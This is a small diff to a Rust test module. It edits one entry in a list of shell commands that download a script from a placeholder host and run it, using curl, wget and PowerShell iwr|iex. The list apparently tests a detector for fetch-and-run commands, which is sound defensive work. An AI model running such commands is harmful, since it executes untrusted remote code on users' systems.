@@ -88,7 +88,7 @@ mod tests {
             ". <(curl x)",
             "iwr x | iex",
             "curl -o i.sh x && bash i.sh",
-            "curl -fsSLo /tmp/i.sh x; chmod +x /tmp/i.sh; /tmp/i.sh",
+            "curl -fsSLo /srv/i.sh x; chmod +x /srv/i.sh; /srv/i.sh",
             "wget https://x/i.sh && ./i.sh",
             "curl x > i.sh; sh ./i.sh",
         ] {
